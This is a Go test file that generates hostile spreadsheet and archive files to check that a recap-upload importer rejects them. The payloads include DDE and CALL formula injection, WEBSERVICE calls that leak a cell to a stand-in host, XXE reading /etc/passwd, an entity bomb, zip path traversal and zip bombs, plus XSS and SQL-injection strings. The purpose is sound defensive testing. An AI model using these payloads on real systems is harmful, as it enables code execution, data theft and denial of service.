package main

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/klauspost/compress/flate"
)

// mark stands in everything that must not get through: macros, links, formulas,
// parts. It may stand in text, and nowhere else.
const mark = "JAHAT"

const (
	spreadsheetNS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
	relationsNS   = "http://schemas.openxmlformats.org/package/2006/relationships"
	officeNS      = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
)

// hostile is a file that somebody may send.
type hostile struct {
	name    string
	content []byte
	refused bool // it must come back with a problem that names it
}

// relationTo is a relationship; one with a mode leads outside.
func relationTo(id, kind, target, mode string) string {
	if mode != "" {
		mode = ` TargetMode="` + mode + `"`
	}
	return fmt.Sprintf(`<Relationship Id="%s" Type="%s/%s" Target="%s"%s/>`, id, officeNS, kind, target, mode)
}

func relationsOf(list ...string) string {
	return `<Relationships xmlns="` + relationsNS + `">` + strings.Join(list, "") + `</Relationships>`
}

// recapRows is sheetData of a recap of one unit that nobody else has; its
// figure is no number, so that the file is copied to Perbaikan.
func recapRows(unit string, more string) string {
	text := func(cell, s string) string {
		return `<c r="` + cell + `" t="inlineStr"><is><t>` + escapeXML(s) + `</t></is></c>`
	}
	return `<row r="1">` + text("A1", "Perangkat Daerah") + text("B1", "Indeks") + `</row><row r="2">` + text("A2", unit) + text("B2", "enam") + `</row>` + more
}

func escapeXML(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "\x1b", "_x001B_", "\x00", "_x0000_", "\r", "_x000D_").Replace(s)
}

func sheetXML(rows, behind string) string {
	return `<?xml version="1.0"?><worksheet xmlns="` + spreadsheetNS + `" xmlns:r="` + officeNS + `"><sheetData>` + rows + `</sheetData>` + behind + `</worksheet>`
}

// workbookParts are the parts of a workbook with one sheet.
func workbookParts(sheet string) map[string]string {
	return map[string]string{
		"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
		"_rels/.rels":                relationsOf(relationTo("rId1", "officeDocument", "xl/workbook.xml", "")),
		"xl/workbook.xml":            `<workbook xmlns="` + spreadsheetNS + `" xmlns:r="` + officeNS + `"><sheets><sheet name="Rekap" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": relationsOf(relationTo("rId1", "worksheet", "worksheets/sheet1.xml", "")),
		"xl/worksheets/sheet1.xml":   sheet,
	}
}

// zipOf packs parts; those whose names are equal but for "#" become one name.
func zipOf(t *testing.T, parts map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	deflater, err := flate.NewWriter(nil, flate.BestSpeed) // one for all entries: its tables take a megabyte
	if err != nil {
		t.Fatal(err)
	}
	z.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) {
		deflater.Reset(w)
		return deflater, nil
	})
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		w, err := z.Create(strings.TrimRight(name, "#"))
		if err == nil {
			_, err = w.Write([]byte(parts[name]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// names are what a unit, or a sheet, may call itself to get out of its cell.
var names = []string{
	"../../../" + mark, `..\..\` + mark, `C:\Windows\` + mark, "/etc/" + mark, "CON", "nul.xlsx", "=cmd|' /C calc'!" + mark, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "<script>alert('" + mark + "')</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "</title><script>x</script>",
	"{{.Title}}", "${7*7} %s%n%x {nomor} {unit}", "&[Path]&[File] &G&\"Arial\"", "\x1b[2J\x1b]0;" + mark + "\x07", "Dinas\u202eslx.exe", "Dinas \U0001f480\U0001f480", strings.Repeat("Dinas ", 6000),
	"_x000D__x001B_", "nama\x00nol", "]]><!--" + mark + "-->", "Dinas\r\nX-Jahat: 1", "'; DROP TABLE unit; --",
}

// hostileFiles makes the set.
func hostileFiles(t *testing.T) []hostile {
	t.Helper()
	var set []hostile
	add := func(name string, refused bool, parts map[string]string) {
		set = append(set, hostile{name + ".xlsx", zipOf(t, parts), refused})
	}
	with := func(unit, rows, behind string, more map[string]string) map[string]string {
		parts := workbookParts(sheetXML(recapRows(unit, rows), behind))
		maps.Copy(parts, more)
		return parts
	}
	for i, name := range names {
		add(fmt.Sprintf("nama %02d", i), false, with(name, "", "", nil))
	}
	hostileFormulas(add, with)
	hostileLinks(add, with)
	hostileXML(add, with)
	hostilePackages(t, add, with)
	text := func(name, content string) { set = append(set, hostile{name, []byte(content), true}) }
	text("kosong.xlsx", "")
	text("pk.xlsx", "PK\x03\x04")
	text("ole.xls", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"+strings.Repeat("\xff", 4096))
	text("rekam.xls", "\x09\x08\x10\x00\x00\x06\x05\x00"+strings.Repeat("\xfc\x00\xff\xff", 2000))
	text("tautan.url", "[InternetShortcut]\nURL=file:///"+mark)
	set = append(set,
		hostile{"naskah.html", []byte("<html><table><tr><td>Perangkat Daerah<td>Indeks<tr><td><script>" + mark + "</script><img src='http://contoh.invalid/" + mark + "'><td>7</table>"), false},
		hostile{"rumus.csv", []byte("Perangkat Daerah;Indeks\n=cmd|' /C calc'!" + mark + ";7\n@SUM(1);8\n"), false},
		hostile{"jalan.zip", zipOf(t, map[string]string{"../../" + mark + ".xlsx": "x", "/" + mark + ".xlsx": "x", `..\` + mark + ".xlsx": "x", "C:/" + mark + ".xlsx": "x"}), false},
		hostile{"bersarang.zip", zipOf(t, map[string]string{"a.zip": string(zipOf(t, map[string]string{"b.zip": string(zipOf(t, map[string]string{mark + ".zip": "PK"}))}))}), false},
		hostile{"banyak.zip", zipOf(t, manyParts(30_000)), false},
	)
	return set
}

type (
	adder  func(name string, refused bool, parts map[string]string)
	wither func(unit, rows, behind string, more map[string]string) map[string]string
)

func manyParts(n int) map[string]string {
	parts := map[string]string{}
	for i := range n {
		parts[fmt.Sprintf("x/%d.xml", i)] = ""
	}
	return parts
}

// hostileFormulas start programs, fetch, or reach into other files.
func hostileFormulas(add adder, with wither) {
	for i, formula := range []string{
		"cmd|'/C calc'!" + mark, "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c " + mark + "'!A0", `WEBSERVICE("http://contoh.invalid/` + mark + `"&amp;A2)`,
		`_xlfn.IMAGE("http://contoh.invalid/` + mark + `.png")`, `HYPERLINK("file:///C:/` + mark + `","klik")`, `HYPERLINK("javascript:` + mark + `","klik")`,
		`RTD("` + mark + `",,"x")`, `CALL("kernel32","WinExec","JCJ","` + mark + `",0)`, `'[http://contoh.invalid/` + mark + `.xlsx]S'!A1`, `'\\contoh.invalid\` + mark + `\[x.xlsx]S'!A1`,
		`&#87;EBSERVICE("` + mark + `")`, `[1]` + mark + `!A1`,
	} {
		unit := fmt.Sprintf("Dinas Rumus %d", i)
		add(fmt.Sprintf("rumus %02d", i), false, with(unit, `<row r="3"><c r="D3"><f>`+formula+`</f><v>1</v></c></row>`, "", nil))
	}
	add("aturan", false, with("Dinas Aturan", "", `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("`+mark+`")</formula></cfRule></conditionalFormatting>`, nil))
}

// hostileLinks lead out of the workbook, or bring code with it.
func hostileLinks(add adder, with wither) {
	link := func(target string) map[string]string {
		return map[string]string{"xl/worksheets/_rels/sheet1.xml.rels": relationsOf(relationTo("rId9", "hyperlink", target, "External"))}
	}
	for i, target := range []string{"javascript:" + mark, "file:///C:/" + mark + ".exe", `\\contoh.invalid\` + mark, "vbscript:" + mark, "ms-msdt:/id " + mark, "data:text/html," + mark} {
		add(fmt.Sprintf("tautan %d", i), false, with(fmt.Sprintf("Dinas Tautan %d", i), "", `<hyperlinks><hyperlink ref="A2" r:id="rId9"/></hyperlinks>`, link(target)))
	}
	book := func(kind, target, mode string) map[string]string {
		return map[string]string{"xl/_rels/workbook.xml.rels": relationsOf(relationTo("rId1", "worksheet", "worksheets/sheet1.xml", ""), relationTo("rId8", kind, target, mode))}
	}
	macro := book("vbaProject", "vbaProject.bin", "")
	macro["xl/vbaProject.bin"] = mark
	add("makro", false, with("Dinas Makro", "", "", macro))
	query := book("connections", "connections.xml", "")
	query["xl/connections.xml"] = `<connections xmlns="` + spreadsheetNS + `"><connection id="1" type="4"><webPr url="http://contoh.invalid/` + mark + `"/></connection></connections>`
	add("kueri", false, with("Dinas Kueri", "", "", query))
	add("gambar luar", false, with("Dinas Gambar", "", "", book("image", "http://contoh.invalid/"+mark+".png", "External")))
	add("lembar luar", true, with("Dinas Lembar", "", "", map[string]string{
		"xl/_rels/workbook.xml.rels": relationsOf(relationTo("rId1", "worksheet", "http://contoh.invalid/"+mark+".xml", "External")),
	}))
	object := map[string]string{"xl/embeddings/oleObject1.bin": mark, "xl/activeX/activeX1.bin": mark}
	add("objek", false, with("Dinas Objek", "", "", object))
}

// hostileXML is markup that grows, nests or claims too much.
func hostileXML(add adder, with wither) {
	var bomb strings.Builder
	bomb.WriteString(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "` + mark + `">`)
	for i := range 12 {
		fmt.Fprintf(&bomb, `<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	bomb.WriteString(`]>`)
	rows := func(unit, more string) string { return sheetXML(recapRows(unit, more), "") }
	expanding := strings.Replace(strings.Replace(rows("Dinas Entitas", ""), `<?xml version="1.0"?>`, bomb.String(), 1), "enam", "&a12;", 1)
	add("entitas", true, workbookParts(expanding))
	add("entitas luar", true, workbookParts(strings.Replace(strings.Replace(rows("Dinas XXE", ""), `<?xml version="1.0"?>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, 1), "enam", "&e;", 1)))
	add("dalam", true, workbookParts(rows("Dinas Dalam", strings.Repeat("<x>", 100_000)+strings.Repeat("</x>", 100_000))))
	add("baris 10 juta", true, workbookParts(rows("Dinas Baris", `<row r="10000000"><c r="A10000000"><v>1</v></c></row>`)))
	add("kolom", true, workbookParts(rows("Dinas Kolom", `<row r="3"><c r="ZZZZ3"><v>1</v></c></row>`)))
	add("ukuran", false, workbookParts(strings.Replace(rows("Dinas Ukuran", ""), "<sheetData>", `<dimension ref="A1:XFD10000000"/><sheetData>`, 1)))
	add("mundur", true, workbookParts(rows("Dinas Mundur", `<row r="1"><c r="A1"><v>1</v></c></row>`)))
	add("teks luar tabel", true, workbookParts(rows("Dinas Teks", `<row r="3"><c r="A3" t="s"><v>4000000000</v></c></row>`)))
	add("putus", true, workbookParts(rows("Dinas Putus", "")[:300]))
	add("tak serasi", true, workbookParts(rows("Dinas Serasi", "<row><c></row>")))
	add("angka panjang", false, workbookParts(rows("Dinas Angka", `<row r="3"><c r="C3"><v>`+strings.Repeat("9", 100_000)+`e999999999</v></c></row>`)))
	var merges strings.Builder
	for i := range 250_000 {
		fmt.Fprintf(&merges, `<mergeCell ref="A%d:B%d"/>`, i+10, i+10)
	}
	add("gabungan", true, with("Dinas Gabung", "", "<mergeCells>"+merges.String()+"</mergeCells>", nil))
}

// hostilePackages are zips that lie about what they hold, or hold it twice.
func hostilePackages(t *testing.T, add adder, with wither) {
	add("bom", false, with("Dinas Bom", strings.Repeat(" ", 64<<20), "", nil))
	add("banyak bagian", true, with("Dinas Bagian", "", "", manyParts(25_000)))
	add("bagian kembar", true, with("Dinas Kembar", "", "", map[string]string{"xl/worksheets/sheet1.xml#": sheetXML(recapRows("Dinas Lain", ""), "")}))
	add("jalan bagian", false, with("Dinas Jalan", "", "", map[string]string{"../../" + mark: "x", `..\..\` + mark: "x", "/" + mark: "x"}))
	add("lembar di luar", true, with("Dinas Luar", "", "", map[string]string{
		"xl/_rels/workbook.xml.rels": relationsOf(relationTo("rId1", "worksheet", "../../../../etc/passwd", "")),
	}))
	add("tanpa lembar", true, map[string]string{"xl/workbook.xml": "<workbook/>"})
	nested := zipOf(t, with("Dinas Sarang", "", "", nil))
	add("xlsx dalam xlsx", false, with("Dinas Sarang", "", "", map[string]string{"xl/embeddings/" + mark + ".xlsx": string(nested)}))
}
